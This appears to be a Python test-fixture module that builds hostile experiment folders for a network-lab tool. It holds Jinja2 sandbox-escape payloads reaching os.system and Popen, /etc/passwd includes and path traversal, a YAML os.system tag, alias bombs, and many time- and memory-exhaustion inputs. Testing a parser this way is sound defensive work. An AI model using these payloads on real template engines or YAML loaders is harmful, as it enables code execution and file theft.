"""Malicious experiments: each must give findings, quickly and in little memory.

A case is the files of a folder with `e.yml`; `BASE` is a valid one, which most cases change in one place.
"""

from __future__ import annotations

from collections.abc import Iterator

from experiment_files import two_links

BASE = (
    """\
name: e
title: One
"""
    + two_links('ios, model: "3725"')
    + """\
duration: 20 s
traffic:
  - {name: transfer, tool: iperf3, from: client, to: server}
arms:
  - name: one
"""
)
TEMPLATED = BASE.replace("- name: one", "- {name: one, configure: {R1: {template: t.j2}}}")

ESCAPES = {
    "globals of a helper": "{{ cycler.__init__.__globals__.os.popen('touch PWNED').read() }}",
    "globals of lipsum": "{{ lipsum.__globals__['os'].system('touch PWNED') }}",
    "subclasses": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "a subclass that is called": (
        "{% for each in ''.__class__.__base__.__subclasses__() %}{% if each.__name__ == 'Popen' %}"
        "{% if each(['touch', 'PWNED']) %}{% endif %}{% endif %}{% endfor %}"
    ),
    "item for attribute": "{{ ()['__class__']['__base__'] }}",
    "filter attr": "{{ ''|attr('__class__') }}",
    "format": "{{ '{0.__class__.__init__.__globals__}'.format(1) }}",
    "format_map": "{{ '{a.__class__}'.format_map({'a': 1}) }}",
    "loop": "{% for i in [1] %}{{ loop.__init__.__globals__ }}{% endfor %}",
    "macro": "{% macro m() %}{% endmacro %}{{ m._func.__globals__ }}",
    "caller": "{% macro m() %}{{ caller._func.__globals__ }}{% endmacro %}{% call m() %}{% endcall %}",
    "self": "{{ self.__init__.__globals__ }}",
    "context of self": "{{ self._TemplateReference__context.environment }}",
    "map with an attribute": "{{ ['x']|map(attribute='__class__')|list }}",
    "join with an attribute": "{{ ['x']|join(attribute='__class__') }}",
    "range": "{{ range.__globals__ }}",
    "import": "{{ __import__('os').system('touch PWNED') }}",
    "file": "{% include '/etc/passwd' %}",
    "file above": "{% include '../../../../../../etc/passwd' %}",
    "file imported": "{% import '/etc/passwd' as p %}{{ p }}",
    "computed file": "{% include '/etc/' ~ 'passwd' %}",
    "method": "{{ 'x'.upper() }}",
    "counting turned back": "{{ environment.tick(-1000000) }}",
}
"""Templates that try to reach Python, or files."""

TOO_MUCH = {
    "division": "{{ 1/0 }}",
    "kinds": "{{ 'a' + 1 }}",
    "itself": "{% include 't.j2' %}",
    "itself twice": "{% set d = d|default(0) + 1 %}{% if d < 60 %}" + "{% include 't.j2' %}" * 2 + "{% endif %}",
    "long text": "{{ 'a' * 10**10 }}",
    "power": "{{ 9**9**9**9 }}",
    "power of a float": "{{ 2.0 ** 2000 }}",
    "range": "{% for i in range(10**12) %}{% endfor %}",
    "range without turns": "{% for i in range(10**12) if false %}{% endfor %}",
    "loops in loops": "{% for i in range(9999) %}" * 5 + "{% endfor %}" * 5,
    "filtered loops": "{% for i in range(9999) %}{% for j in range(9999) if false %}{% endfor %}{% endfor %}",
    "list": "{{ range(10**12)|list }}",
    "sum": "{{ range(10**12)|sum }}",
    "member": "{{ 'x' in range(10**12) }}",
    "member of a list": "{% set l = range(9999)|list %}{% set l = l + l %}{% for i in range(9999) %}"
    + "{% if 'x' in l %}{% endif %}" * 3
    + "{% endfor %}",
    "member by a test": "{% set l = range(9999)|list %}{% for i in range(9999) %}"
    + "{% if 'x' is in l %}{% endif %}" * 3
    + "{% endfor %}",
    "equal lists": "{% set l = range(9999)|list %}{% set m = range(9999)|list %}{% for i in range(9999) %}"
    + "{% if l == m %}{% endif %}" * 3
    + "{% endfor %}",
    "changed": "{% set l = range(9999)|list %}{% set m = range(9999)|list %}{% for i in range(9999) %}"
    + "{% if loop.changed(l) or loop.changed(m) %}{% endif %}" * 3
    + "{% endfor %}",
    **{
        f"{name} of a list": f"{{% set l = range(9999)|list %}}{{% set l = l + l %}}{{% for i in range(9999) %}}"
        f"{{% if l|{name} %}}{{% endif %}}{{% endfor %}}"
        for name in ("max", "min")
    },
    "trimmed": "{% set t %}" + " " * 9000 + "{% endset %}{% for i in range(9999) %}"
    "{% if t|trim %}{% endif %}{% endfor %}",
    "doubled text": "{% set x = 'aaaaaaaaaaaa' %}" + "{% set x = x ~ x %}" * 60 + "{{ x }}",
    "added text": "{% set x = 'aaaaaaaaaaaa' %}" + "{% set x = x + x %}" * 60 + "{{ x }}",
    "doubled block": "{% set x %}aaaa{% endset %}" + "{% set x %}{{ x }}{{ x }}{% endset %}" * 60 + "{{ x }}",
    "doubled list": "{% set x = [1] %}" + "{% set x = [x, x] %}" * 60 + "{{ x == x }}",
    "doubled mapping": "{% set x = {'a': 1} %}" + "{% set x = {'a': x, 'b': x} %}" * 60 + "{{ x }}",
    "arguments": "{% macro m() %}{{ m(varargs, varargs) }}{% endmacro %}{{ m(1) }}",
    "macro": "{% macro m(d) %}{{ m(d + 1) }}{% endmacro %}{{ m(0) }}",
    "macro twice": "{% macro m(d) %}{% if d < 40 %}{{ m(d+1) }}{{ m(d+1) }}{% endif %}{% endmacro %}{{ m(0) }}",
    "loop in itself": "{% for i in [1, 2] recursive %}{{ loop([1, 2]) }}{% endfor %}",
    "long lines": "{% for i in range(9999) %}" + "x" * 999 + "{% endfor %}",
    "many copies": "{% set x = 'a' %}{% for i in range(9999) %}{{ ('b' * 1) ~ x }}{% endfor %}",
    "replaced": "{{ 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'|replace('', '" + "b" * 2000 + "') }}",
    "rounding": "{{ 1.5|round(-10**9, 'ceil') }}",
    "width": "{{ '%1000000000d' % 5 }}",
    "brackets": "{{" + "(" * 9000 + "1" + ")" * 9000 + "}}",
    "not": "{{" + "not " * 7000 + "1 }}",
    "sum of many": "{{" + "1 + " * 5000 + "1 }}",
    "blocks": "{% if true %}" * 1000 + "{% endif %}" * 1000,
    "nested loops": "{% for i in [1] %}" * 30 + "{% endfor %}" * 30,
    "digits": "{{ " + "9" * 20000 + " }}",
    "infinity": "{{ '1e999'|float|int }}",
    "control character": "banner \x03 x\n",
    "escape": "{{ '\\x1a' }}",
    "no end": "{% for i in [1] %}",
    "size": "! " * 40000,
}
"""Templates that try to take time, memory or the stack."""


EXPRESSIONS = {
    "not without end": "not " * 3000 + "true",
    "sum without end": "p" + "+p" * 3000,
    "and without end": "true" + " and true" * 3000,
    "product without end": "2" + "*99999999" * 3000,
    "brackets": "(" * 3000 + "1" + ")" * 3000,
    "brackets in few words": "(" * 200 + "1" + ")" * 200,
    "comparisons": "1" + " < 2" * 3000,
    "digits": "9" * 5000,
    "digits with a unit": "9" * 5000 + " ms",
    "too large": "9" * 29 + " * " + "9" * 29,
    "too large a ratio": "9" * 29 + " * " + "9" * 29 + " / 7",
    "division": "1 / 0",
    "unknown": "__import__('os')",
    "attribute": "p.__class__",
}
"""Expressions of parameters."""

MATRIX = BASE.replace("to: server}", "to: server, start_after: $(p) s}") + "matrix: "
CROSSED = MATRIX.replace("tool: iperf3", "tool: iperf3, window: $(q) kB")
NUMBERS = ", ".join(map(str, range(1, 900)))

CHANGES = {
    "a key that is no text": 'title: One\n"\\ud800": 1',
    "a value that is no text": 'title: "\\ud800"',
    "hexadecimal digits": "title: One\nseed: 0x" + "F" * 5000,
    "decimal digits": "title: One\nseed: " + "9" * 5000,
    "a large seed": "title: One\nseed: 99999999999999999999",
    "no finite number": "title: One\nseed: .inf",
    "a tag": "title: !!python/object/apply:os.system ['touch PWNED']",
    "nested lists": "title: " + "[" * 1000,
    "nested mappings": "title: " + "{a: " * 1000,
    "many values": "title: [" + "1," * 20001 + "]",
    "aliases": "title: One\na: &a [1,1,1,1,1,1,1,1]\n"
    + "".join(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}' if i else '*a'] * 8)}]\n" for i in range(20)),
    "an alias of itself": "title: &a [*a]",
    "a merge key": "title: One\n<<: {a: 1}",
    "a long text": "title: " + "x" * 2**20,
    "many repetitions": "title: One\nrepetitions: 1000000000000",
    "a null character": "title: One\0",
}
"""Replacements for the title."""

CONFIGURED = {
    "nonsense": "frobnicate\n",
    "much nonsense": "x\n" * 20000,
    "a long word": "hostname " + "x" * 30000,
    "a long line": "interface " + "Fa0/0 " * 5000,
    "digits": "policy-map P\n class class-default\n  police cir " + "9" * 5000,
    "digits of elsewhere": "policy-map P\n class class-default\n  police cir ٨٠٠٠٠٠٠\n",
    "a sign": "policy-map P\n class class-default\n  police cir +8000\n",
    "digits in groups": "policy-map P\n class class-default\n  police cir 8_000_000\n",
    "an interface without end": "interface FastEthernet0/0." + "9" * 4000,
    "a subinterface beyond the last": "interface FastEthernet0/0.4294967296\n",
    "a number of elsewhere": "interface FastEthernet0/0.٣\n",
    "addresses": "interface FastEthernet0/0\n ip address 999.1.1.1 255.255.255.0\n",
    "a wildcard for a mask": "interface FastEthernet0/0\n ip address 10.0.0.1 0.0.0.255\n",
    "a policy in itself": "policy-map P\n class class-default\n  service-policy P\n",
    "policies in a circle": "policy-map Q\n class class-default\n"
    "policy-map P\n class class-default\n  service-policy Q\n"
    "policy-map Q\n class class-default\n  service-policy P\n",
    "a class in itself": "class-map match-any A\n match class-map A\n",
    "classes in a circle": "class-map match-any A\n match dscp ef\nclass-map match-any B\n match class-map A\n"
    "class-map match-any A\n match class-map B\n",
    "classes in classes": "class-map match-any C0\n match dscp ef\n"
    + "".join(f"class-map match-any C{i}\n match class-map C{i - 1}\n" for i in range(1, 600))
    + "nonsense\n",
    "many classes": "".join(f"class-map match-any C{i}\n match dscp ef\n" for i in range(900)) + "nonsense\n",
    "many entries": "".join(f"access-list 101 permit udp any any eq {i}\n" for i in range(1, 900)) + "nonsense\n",
    "a queue without end": "policy-map P\n class class-default\n  queue-limit 99999999999\n",
    "queues without bound": "policy-map P\n class class-default\n  fair-queue 4096\n  queue-limit 32768\n"
    "interface FastEthernet0/1\n service-policy output P\ninterface FastEthernet0/0\n service-policy output P\n"
    "nonsense\n",
    "more than there is": "policy-map P\n class class-default\n  bandwidth percent 101\n",
    "marks of direction": "interface FastEthernet0/0\n desc\u202eription x\n",
    "a command of the operator": "reload\n",
    "a file of the machine": "boot system tftp://10.0.0.1/x\nmore /etc/passwd\n",
}
"""Configurations of a router."""

OBSERVED = {
    "a second line": '"show version\\nreload\\n"',
    "a key": '"show version \\x1a"',
    "a file that is written": "show running-config | redirect flash:x",
    "a copy": "show running-config | tee tftp://10.0.0.1/x",
    "an appendix": "show version | append nvram:startup-config",
    "a second filter": "show version | include x | redirect flash:x",
    "no show": "reload",
    "configuration": "configure terminal",
    "an unknown command": "show tech-support",
    "no expression": '"show version | include ("',
    "help": '"show ?"',
}
"""Show commands under `observe`."""

FIGURES: dict[str, str | bytes] = {
    "no text": b"arm,metric,unit,value,source\n\xff\n",
    "digits": "arm,metric,unit,value,source\none,goodput.sum,b/s," + "9" * 5000 + ",x\n",
    "not a number": "arm,metric,unit,value,source\none,goodput.sum,b/s,nan,x\n",
    "a long cell": "arm,metric,unit,value,source\n" + "x" * 200000,
    "no end of quotes": 'arm,metric,unit,value,source\n"' + "x\n" * 70000,
    "other columns": "a,b,c\n",
    "too long": "arm,metric,unit,value,source\n" * 20000,
    "nothing": "",
}
"""Published values."""


def hostile_experiments() -> Iterator[tuple[str, dict[str, str | bytes]]]:
    """Yield every case: its name, and its files by path."""
    for name, text in {**ESCAPES, **TOO_MUCH}.items():
        yield f"template: {name}", {"e.yml": TEMPLATED, "t.j2": text}
    yield "template: not UTF-8", {"e.yml": TEMPLATED, "t.j2": b"interface \xff\n"}
    for name, path in (
        ("absolute", "/etc/passwd"),
        ("above", "../../../../../../../etc/passwd"),
        ("device", "/dev/zero"),
    ):
        yield f"template elsewhere: {name}", {"e.yml": TEMPLATED.replace("t.j2", path)}
        yield f"published elsewhere: {name}", {"e.yml": f"{BASE}compare: {{article: A, published: {path}}}\n"}
    for name, text in CONFIGURED.items():
        yield f"configuration: {name}", {"e.yml": TEMPLATED, "t.j2": text}
    for name, text in EXPRESSIONS.items():
        flow = BASE.replace("to: server}", f'to: server, start_after: "$({text})"}}')
        yield f"expression: {name}", {"e.yml": flow + "matrix: {p: [1]}\n"}
        yield f"constraint: {name}", {"e.yml": f'{MATRIX}{{p: [1], constraints: ["{text}"]}}\n'}
    for name, text in CHANGES.items():
        yield f"YAML: {name}", {"e.yml": BASE.replace("title: One", text)}
    yield "YAML: no UTF-8", {"e.yml": b"name: \xff"}
    yield "YAML: UTF-16", {"e.yml": BASE.encode("utf-16")}
    yield "YAML: nothing", {"e.yml": ""}
    yield "YAML: a list", {"e.yml": "- 1"}
    yield "a key as pydantic calls one", {"e.yml": BASE.replace("title: One", 'title: One\n"[key]": 1')}
    yield "a node as pydantic calls a key", {"e.yml": BASE.replace("    client: {", '    "[key]": {')}
    for name, kind in (("a list", "[host]"), ("a mapping", "{host: 1}")):
        yield (
            f"a platform that is {name}",
            {"e.yml": BASE.replace("client: {platform: host}", f"client: {{platform: {kind}}}")},
        )
    for name, text in OBSERVED.items():
        yield f"observe: {name}", {"e.yml": f"{BASE}observe:\n  - {{node: R1, command: {text}}}\n"}
    for name, content in FIGURES.items():
        yield f"published: {name}", {"e.yml": BASE + "compare: {article: A, published: p.csv}\n", "p.csv": content}
    yield "matrix: many combinations", {"e.yml": f"{MATRIX}{{p: [{NUMBERS}], q: [{NUMBERS}], r: [{NUMBERS}]}}\n"}
    yield "matrix: many values", {"e.yml": f"{MATRIX}{{p: [{NUMBERS}, {', '.join(map(str, range(900, 2000)))}]}}\n"}
    lists = ", ".join(f"{name}: [{NUMBERS}]" for name in "pqr")
    yield "matrix: many included", {"e.yml": f"{MATRIX}{{include: [{{{lists}}}]}}\n"}
    looking = "{% set l = range(9999)|list %}{% for i in range(15) %}{% if p in l %}{% endif %}{% endfor %}"
    shown = BASE.replace("- name: one", "- {name: one, configure: {R1: {template: t.j2, variables: {p: $(p)}}}}")
    yield "matrix: costly templates", {"e.yml": f"{shown}matrix: {{p: {list(range(20000, 20100))}}}\n", "t.j2": looking}
    crossed = f"{CROSSED}{{p: {list(range(1, 447))}, q: {list(range(1, 447))}, "
    yield "matrix: much excluded", {"e.yml": f"{crossed}exclude: [{{p: {list(range(1, 9500))}}}]}}\n"}
    yield "matrix: excluded often", {"e.yml": f"{crossed}exclude: [{', '.join(['{p: 1000}'] * 100)}]}}\n"}
    yield "matrix: constrained often", {"e.yml": f"{crossed}constraints: [{', '.join(['p>0'] * 9000)}]}}\n"}
    crossed = f"{CROSSED}{{p: {list(range(1, 101))}, q: {list(range(1, 101))}}}\ncompare:\n"
    average = f'{{title: A, arm: one, metric: goodput.sum, at_least: 1 b/s, condition: "p > 999{" or p > 999" * 9}"}}'
    yield "comparison: no cell", {"e.yml": f"{crossed}  averages:\n    - {average}\n"}
    expectation = '{arm: one, metric: tcp.timeouts, at_least: "$(p + q)"}'
    yield "comparison: expected often", {"e.yml": crossed + "  expectations:\n" + f"    - {expectation}\n" * 20}
    yield "matrix: digits", {"e.yml": f"{MATRIX}{{p: ['{'9' * 5000} ms']}}\n"}
    numbers = {"digits": "9" * 5000, "large": "9" * 25, "too much": "9" * 12, "blanks": "1" + " " * 50000 + "x"}
    for key, text in {"rate": "10 Mb/s", "duration": "20 s"}.items():
        for name, number in numbers.items():
            unit = text.partition(" ")[2]
            yield f"{key}: {name}", {"e.yml": BASE.replace(f"{key}: {text}", f'{key}: "{number} {unit}"')}
    blanks = "{a" + " " * 50000
    yield "note: blanks", {"e.yml": f'{BASE}notes: [{{title: A, text: "{blanks}{{one nothing}}"}}]\n'}
    opened = "{a " * 15000
    yield "note: brackets", {"e.yml": f'{BASE}notes: [{{title: A, text: "{opened}{{one nothing}}"}}]\n'}
